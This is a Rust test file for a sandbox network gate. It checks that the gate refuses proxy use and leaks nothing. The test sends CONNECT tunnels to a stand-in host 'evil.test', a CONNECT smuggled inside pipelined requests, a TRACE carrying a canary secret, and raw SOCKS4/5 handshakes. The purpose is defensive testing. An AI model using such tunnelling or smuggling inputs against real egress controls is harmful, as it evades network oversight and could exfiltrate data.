//! EG13: a relay inside that asks the gate to be a proxy. It is none: CONNECT is 405, SOCKS is no
//! protocol it knows, and its own address has no service but names.

use den_testkit::Site;

use crate::world::{World, answered, canary, refused, status};

#[test]
fn the_gate_is_no_proxy() {
    let world = World::guarded(&["good.test"]);
    world.add("o", "open", &[]);
    let secret = canary();
    let seen = world.run(
        "c",
        &format!(
            "good = address('good.test')\n\
             connect = b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'\n\
             say(**fate(good, 80, connect))\n\
             say(**fate(good, 80, b'CONNECT good.test:80 HTTP/1.1\\r\\nHost: good.test:80\\r\\n\\r\\n'))\n\
             say(**fate(good, 80, pieces=[b'GET /one HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n', b'CONNECT good.test:443 HTTP/1.1\\r\\nHost: good.test:443\\r\\n\\r\\n', b'{secret}'], pause=0.3))\n\
             say(**fate(good, 80, b'TRACE / HTTP/1.1\\r\\nHost: good.test\\r\\nX: {secret}\\r\\n\\r\\n'))\n\
             say(**fate(good, 80, b'\\x05\\x01\\x00'))\n\
             say(**fate(good, 80, b'\\x04\\x01\\x01\\xbb\\0\\0\\0\\x01\\0evil.test\\0'))\n\
             say(**fate(good, 443, connect))"
        ),
    );
    let first = seen[0]["got"].as_str().unwrap_or_default();
    assert!(["405", "421", "400"].iter().any(|code| first.starts_with(&format!("HTTP/1.1 {code}"))), "{}", seen[0]);
    status(&seen[1], 405);
    answered(&seen[2]);
    assert!(seen[2]["got"].as_str().is_some_and(|got| got.contains("HTTP/1.1 405")), "{}", seen[2]);
    status(&seen[3], 405);
    refused(&seen[4]);
    refused(&seen[5]);
    assert!(!seen[6]["got"].as_str().unwrap_or_default().contains(" 200 "), "{}", seen[6]);
    world.denied("c", "open", "not_tls_or_http", "good.test");

    // The gate's own address: nothing but names, in every posture, its listener's port included.
    for name in ["c", "o"] {
        let seen = world.run(
            name,
            &format!("for port in (80, 443, 1080, 3128, 7443, 22): say(**fate(GATE, port, b'CONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n{secret}'))"),
        );
        seen.iter().for_each(refused);
        world.denied(name, "open", "gateway", "169.254.1.1:7443");
    }
    let seen = world.run("c", "say(**get(address('good.test'), 'good.test', '/well'))");
    answered(&seen[0]);
    world.untouched(Site::Evil);
    let lines: Vec<_> = world.net.requests_at(Site::Good).into_iter().map(|request| request.line).collect();
    assert_eq!(lines, ["GET /one HTTP/1.1", "GET /well HTTP/1.1"]);
    world.no_leak(&secret);
}
